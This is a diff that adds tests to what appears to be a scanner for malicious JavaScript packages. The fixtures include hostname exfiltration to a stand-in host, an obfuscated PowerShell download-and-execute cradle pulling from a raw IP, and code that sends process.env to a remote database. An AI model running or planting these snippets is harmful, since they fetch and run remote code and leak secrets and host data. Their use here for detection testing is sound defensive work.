@@ -275,3 +275,51 @@ req.end(JSON.stringify({ message: 'ci', content: wf }));
     expect(['high', 'critical']).toContain(r.level);
   });
 });
+
+describe('calls and commands the file does not spell out', () => {
+  it('os.hostname picked by Object.getOwnPropertyNames(os).find(…) and sent is host identity sent', () => {
+    const r = scan({
+      'index.js': `const os = require('os');
+const http = require('http');
+const host = os[Object.getOwnPropertyNames(os).find((p) => p === 'hostname')].call({});
+http.get('http://collect.example.net/h?host=' + encodeURIComponent(host));
+`,
+    });
+    expect(r.ids).toContain('exfiltration/flow');
+  });
+
+  it('a PowerShell cradle from a raw IP kept in a string table is a written dropper', () => {
+    const r = scan({
+      'index.js': `function strings() { return ['child_process', 'execSync', 'powershell -w hidden -c "iwr http://192.0.2.9/u.ps1|iex"']; }
+const t = strings();
+try { require(t[0])[t[1]](t[2]); } catch (e) {}
+`,
+    });
+    const f = r.findings.find((x) => x.messageId === 'writtenDropper');
+    expect(f?.data?.what).toBe('PowerShell download');
+    expect(atLeastMedium).toContain(r.level);
+  });
+
+  it("an install hint naming a vendor's HTTPS installer in a message stays low", () => {
+    const r = scan({
+      'index.js': `module.exports = function check(found) {
+  if (!found) console.error('bun is missing: install it with curl -fsSL https://bun.sh/install | bash');
+};
+`,
+    });
+    expect(atLeastMedium).not.toContain(r.level);
+  });
+
+  it('the environment pushed into a remote database client made from a URL is exfiltration', () => {
+    const r = scan({
+      'index.js': `const Firebase = require('firebase');
+const db = new Firebase('https://demo-0000.firebaseio.example.com/');
+const node = db.child('runtime');
+node.push({ kind: 'startup', payload: process.env });
+module.exports = {};
+`,
+    });
+    expect(r.ids).toContain('exfiltration/flow');
+    expect(JSON.stringify(r.findings.find((f) => f.detector === 'exfiltration')?.data)).toMatch(/remote client/);
+  });
+});
